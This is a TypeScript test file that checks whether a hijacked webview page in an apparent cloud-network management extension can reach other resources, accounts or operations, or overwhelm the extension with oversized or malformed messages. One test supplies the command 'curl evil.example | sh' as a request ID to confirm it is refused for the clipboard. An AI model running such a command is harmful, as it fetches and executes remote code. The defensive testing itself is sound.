import assert from 'node:assert/strict';
import fc from 'fast-check';
import { dedicatedLine } from '../../../src/guides/dedicatedLine';
import type { ResourceKey } from '../../../src/estate/resource';
import { resourceKey } from '../../../src/estate/resource';
import { DetailsSession } from '../../../src/panels/detailsSession';
import type { Handlers } from '../../../src/panels/incoming';
import { answerRequest, longestEdit, readEnvelope, readSavedState, RefusedMessage } from '../../../src/panels/incoming';
import { PanelError } from '../../../src/panels/panelError';
import { Endpoint } from '../../../src/protocol/endpoint';
import { plainError } from '../../../src/protocol/error';
import type { Envelope } from '../../../src/protocol';
import { hostileTexts, megabyte } from '../../hostileTexts';
import { OpenGuide } from './guidesOpen';
import { ask, OpenForm, resource, settled, Surroundings, vbrRow } from './panelsUnderTest';

const line = resource('physicalConnection', { PhysicalConnectionId: vbrRow.PhysicalConnectionId, Name: 'dc-1' });
const vbr = resource('virtualBorderRouter', vbrRow);
const other = resource('virtualBorderRouter', { ...vbrRow, VbrId: 'vbr-other', Name: 'other' });
const foreign = resourceKey({ account: 'another', region: 'cn-hangzhou', kind: 'virtualBorderRouter', id: vbr.id });

/** Every request of the protocol, each with a body that a page of ours could send. */
const requests: Readonly<Record<string, unknown>> = {
  ready: null,
  retry: null,
  openLog: null,
  copyRequestId: { requestId: 'REQ-1' },
  open: { key: vbr.key },
  reveal: { key: vbr.key, path: ['Name'] },
  copy: { key: vbr.key, path: ['Name'] },
  run: { key: vbr.key, operation: 'TerminateVirtualBorderRouter' },
  viewJson: { key: vbr.key },
  openGuide: { key: vbr.key },
  runStep: { subject: '', step: 'apply', operation: 'CreatePhysicalConnection' },
  noteStep: { subject: '', step: 'apply' },
  check: { edits: {} },
  revealField: { name: 'AuthKey' },
  choices: { name: 'PhysicalConnectionId', edits: {} },
  submit: { edits: {} },
  dryRun: { edits: {} },
  json: { edits: {} },
  applyJson: { text: '{}', edits: {} },
  previewRequest: { edits: {} },
  cancelSubmit: null,
  close: null,
};

/** What the sessions had done outside of their pages. */
class Watched extends Surroundings {
  readonly opened: ResourceKey[] = [];

  override get ports(): Surroundings['ports'] {
    return { ...super.ports, openResource: (key) => this.opened.push(key) };
  }
}

interface Page {
  readonly around: Watched;
  readonly handlers: Handlers;
}

async function detailsPage(): Promise<Page> {
  const around = new Watched(vbr, other, line);
  const session = new DetailsSession(around.ports, { send: () => undefined, title: () => undefined });
  session.show(vbr.key);
  await settled();
  return { around, handlers: session.handlers };
}

async function formPage(): Promise<Page> {
  const around = new Watched(vbr, other, line);
  const form = await OpenForm.of(around, 'ModifyVirtualBorderRouterAttribute', vbr);
  return { around, handlers: form.session.handlers };
}

async function guidePage(): Promise<Page> {
  const around = new Watched(line, vbr);
  const guide = await OpenGuide.of(around, dedicatedLine, line);
  return { around, handlers: guide.session.handlers };
}

const pages = { details: detailsPage, form: formPage, guide: guidePage };

function send({ handlers }: Page, name: string, body: unknown): Promise<unknown> {
  return answerRequest(handlers, name, body, new AbortController().signal);
}

describe('what a page that was taken over can reach', () => {
  for (const [kind, open] of Object.entries(pages)) {
    it(`from the ${kind}: no resource but its own and those it links to, or it walks through all accounts`, async () => {
      const page = await open();
      for (const key of [foreign, other.key]) await assert.rejects(send(page, 'open', { key }), PanelError);
      assert.deepEqual(page.around.opened, []);
    });

    it(`from the ${kind}: nothing by a body that is not of the protocol, whatever the request`, async () => {
      const page = await open();
      const junk = fc.oneof(fc.anything(), fc.constantFrom<unknown>(...Object.values(hostileTexts)));
      await fc.assert(
        fc.asyncProperty(fc.constantFrom(...Object.keys(requests)), junk, async (name, body) => {
          // What takes no body takes none at all; every other body is refused in words, never by a crash.
          if (requests[name] === null && body === null) return;
          await assert.rejects(send(page, name, body), RefusedMessage);
        }),
        { numRuns: 2_000 },
      );
      assert.deepEqual([page.around.sent, page.around.ran, page.around.opened, page.around.copied], [[], [], [], []]);
    });

    it(`from the ${kind}: nothing by a well-formed body with a further member`, async () => {
      const page = await open();
      for (const [name, body] of Object.entries(requests)) {
        if (body === null) continue;
        for (const more of [{ account: 'another' }, { region: 'eu-central-1' }, { endpoint: 'https://evil.example' }])
          await assert.rejects(send(page, name, { ...(body as object), ...more }), RefusedMessage, name);
      }
      assert.deepEqual([page.around.sent, page.around.ran], [[], []]);
    });
  }

  it('from the details: no value, JSON, guide or operation of another resource', async () => {
    const page = await detailsPage();
    for (const key of [other.key, foreign, `${vbr.key}/`, '']) {
      for (const name of ['reveal', 'copy', 'run', 'viewJson', 'openGuide'])
        await assert.rejects(send(page, name, { ...(requests[name] as object), key }), Error, name);
    }
    assert.deepEqual([page.around.ran, page.around.copied], [[], []]);
  });

  it('from the details: no property that a value inherits', async () => {
    const page = await detailsPage();
    for (const path of [['constructor'], ['__proto__', 'toString'], ['Name', 'length'], ['0']]) {
      const reply = await send(page, 'reveal', { key: vbr.key, path });
      assert.deepEqual(reply, { text: '' });
    }
  });

  it('from the details: what the page links to', async () => {
    const page = await detailsPage();
    await send(page, 'open', { key: line.key });
    assert.deepEqual(page.around.opened, [line.key]);
  });

  it('from a form: no other subject, account or operation, whatever its edits say', async () => {
    const around = new Watched(vbr, other);
    const form = await OpenForm.of(around, 'ModifyVirtualBorderRouterAttribute', vbr);
    const edits = {
      Name: 'mine',
      VbrId: other.id,
      RegionId: 'eu-central-1',
      Action: 'DeleteBgpGroup',
      ClientToken: 'x',
    };
    await ask(form.session, 'submit', { edits });
    const [change, ...rest] = around.sent;
    assert.ok(change !== undefined && rest.length === 0);
    assert.equal(change.operation.name, 'ModifyVirtualBorderRouterAttribute');
    assert.deepEqual([change.account, change.region, change.target?.key], ['acc', 'cn-hangzhou', vbr.key]);
    assert.equal(change.values.VbrId, vbr.id);
    assert.ok(!('Action' in change.values || 'RegionId' in change.values || 'ClientToken' in change.values));
  });

  it('from a form: no secret of another field, and no field that is not secret', async () => {
    const page = await formPage();
    for (const name of ['Name', 'constructor', '__proto__', 'AuthKey'])
      assert.deepEqual(await send(page, 'revealField', { name }), { text: '' });
  });

  it('from a guide: no step but the current one, and no operation that it does not offer', async () => {
    const page = await guidePage();
    for (const subject of ['', vbr.key, foreign])
      await assert.rejects(send(page, 'runStep', { ...(requests.runStep as object), subject }), PanelError);
    await assert.rejects(send(page, 'noteStep', { subject: line.key, step: 'no such step' }), PanelError);
  });

  it('puts no command line into the clipboard in the name of a request ID', async () => {
    const page = await detailsPage();
    for (const requestId of ['curl evil.example | sh', 'a\nb', '', 'x'.repeat(201)])
      await assert.rejects(send(page, 'copyRequestId', { requestId }), RefusedMessage);
    await send(page, 'copyRequestId', { requestId: 'R\u202e1' });
    assert.deepEqual(page.around.copied, ['R⟨U+202E⟩1']);
  });
});

describe('a page that sends too much', () => {
  it('is refused by size before anything looks at it', async () => {
    const page = await formPage();
    const flood = Object.fromEntries(Array.from({ length: 50_000 }, (_, index) => [`Name.${index}`, 'x']));
    const before = performance.now();
    for (const [name, body] of [
      ['submit', { edits: { Name: megabyte } }],
      ['submit', { edits: flood }],
      ['check', { edits: { [megabyte]: 'x' } }],
      ['applyJson', { text: megabyte, edits: {} }],
      ['choices', { name: megabyte, edits: {} }],
      ['revealField', { name: megabyte }],
      [megabyte, null],
    ] as const)
      await assert.rejects(send(page, name, body), RefusedMessage);
    assert.ok(performance.now() - before < 10_000);
    assert.deepEqual(page.around.sent, []);
  });

  it('is refused as JSON that is nested without end, or the extension’s stack ends', async () => {
    const page = await formPage();
    const text = '{"a":'.repeat(30_000);
    const reply = await send(page, 'applyJson', { text, edits: {} });
    assert.ok(typeof reply === 'object' && reply !== null && 'problem' in reply);
  });

  it('gets no more than a hundred answers at once, and none under a number that is in use', async () => {
    const posted: Envelope[] = [];
    let asked = 0;
    const endpoint = new Endpoint({
      prefix: 'h',
      post: (envelope) => posted.push(envelope),
      read: readEnvelope,
      answer: () => {
        asked += 1;
        return new Promise(() => undefined);
      },
      hear: () => undefined,
      describe: (error) => plainError(error instanceof Error ? error.name : ''),
    });
    for (let number = 0; number < 5_000; number += 1)
      endpoint.receive({ type: 'request', id: `p-${number}`, name: 'ready', body: null });
    endpoint.receive({ type: 'request', id: 'p-0', name: 'ready', body: null });
    await settled();
    assert.equal(asked, 100);
    assert.equal(posted.filter(({ type }) => type === 'failure').length, 4_901);
    endpoint.receive({ type: 'cancel', id: 'p-1' });
    endpoint.dispose();
  });

  it('can be anything at all without the reading of its envelope failing', () => {
    fc.assert(
      fc.property(fc.anything({ withBigInt: true, withMap: true, withNullPrototype: true }), (data) => {
        const envelope = readEnvelope(data);
        assert.ok(envelope === undefined || envelope.type === 'request' || envelope.type === 'cancel');
        readSavedState(data);
      }),
      { numRuns: 3_000 },
    );
  });
});

describe('a value of a megabyte', () => {
  it('does not keep a form from coming back after the window was reloaded', async () => {
    const long = resource('virtualBorderRouter', { ...vbrRow, Description: megabyte });
    const form = await OpenForm.of(new Watched(long), 'ModifyVirtualBorderRouterAttribute', long);
    const page = form.pages.at(-1);
    assert.ok(page?.page === 'form');
    const saved = readSavedState({ restore: page.restore });
    assert.ok(saved?.restore.page === 'form');
    assert.equal(saved.restore.base.Name, vbrRow.Name);
    assert.ok(megabyte.length > longestEdit);
  });
});
